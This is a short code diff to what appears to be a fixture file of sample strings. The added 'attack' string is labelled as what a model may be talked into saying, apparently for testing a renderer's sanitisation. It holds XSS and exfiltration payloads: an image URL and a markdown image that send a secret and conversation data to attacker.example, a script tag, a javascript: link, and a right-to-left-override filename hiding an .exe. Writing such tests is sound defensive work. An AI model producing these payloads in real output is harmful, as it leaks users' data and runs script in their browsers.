@@ -26,3 +26,10 @@ const flow = streams.reduce((sum, stream) => sum + stream.flow, 0);
 `;
 
 export const short = 'Rivers find the sea. They take their time, and they do not ask the way.';
+
+/** What a model may be talked into saying. */
+export const attack = `<img src="https://attacker.example/pixel.png?secret=42" onerror="alert(1)">
+<script>document.title = 'taken'</script>
+![a picture](https://attacker.example/picture.png?conversation=everything)
+[a link](javascript:alert(1)) and [another](https://example.com)
+The file is called invoice\u202egpj.exe`;
